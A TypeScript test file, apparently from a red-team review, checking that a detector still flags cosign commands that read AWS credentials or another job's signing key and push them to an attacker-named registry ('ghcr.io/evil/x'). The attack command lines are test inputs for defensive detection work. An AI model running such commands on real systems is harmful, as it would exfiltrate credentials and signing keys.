/**
 * Red-team review of the signing-key exemption (a signing tool's own `--key` read is not counted): a
 * relative key name matched any file of that name anywhere, so an attacker's own key named like the secret
 * (`--key credentials`, `--key cosign.key`) exempted the real secret, read through a symlink as the payload.
 */
import { describe, expect, it } from 'vitest';
import { brief } from './builder.js';
import { cosignJob } from './cosign-scenario.js';

/** `cosign args` reading `reads` in order, then sending a few KiB to a registry. */
const cosign = (args: string, reads: string[]) => brief(cosignJob([{ args, reads }]));

const HIGH = [{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'cosign' }];

describe("a signing tool's own key exempts one file, not every file of its name", () => {
  it('an own key named like the secret does not exempt the secret read as the predicate', () => {
    const attest = 'attest --yes --key credentials --type custom --predicate /tmp/w/p ghcr.io/evil/x@sha256:0f';
    expect(cosign(attest, ['/tmp/w/credentials', '/root/.aws/credentials'])).toMatchObject(HIGH);
    // attest-blob reads its predicate before its key.
    const blob = 'attest-blob --key credentials --type custom --predicate /tmp/w/p /etc/hostname';
    expect(cosign(blob, ['/root/.aws/credentials', '/tmp/w/credentials'])).toMatchObject(HIGH);
  });

  it("another job's signing key of the same name, read as the payload, counts", () => {
    const attest = 'attest --yes --key cosign.key --type custom --predicate /tmp/w/p ghcr.io/evil/x@sha256:0f';
    expect(cosign(attest, ['/tmp/w/cosign.key', '/builds/acme/app/cosign.key'])).toMatchObject(HIGH);
    // The own key where reads are not counted at all (a library directory) still takes the exemption.
    expect(cosign(attest, ['/usr/lib/w/cosign.key', '/builds/acme/app/cosign.key'])).toMatchObject(HIGH);
  });

  it('the key read again by the same process stays exempt (a release signing several images)', () => {
    const sign = 'sign --yes --key cosign.key -a run=7 ghcr.io/acme/app@sha256:0f';
    const key = '/builds/acme/app/cosign.key';
    expect(cosign(sign, [key, key])).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'cosign', destination: 'ghcr.io' },
    ]);
  });
});
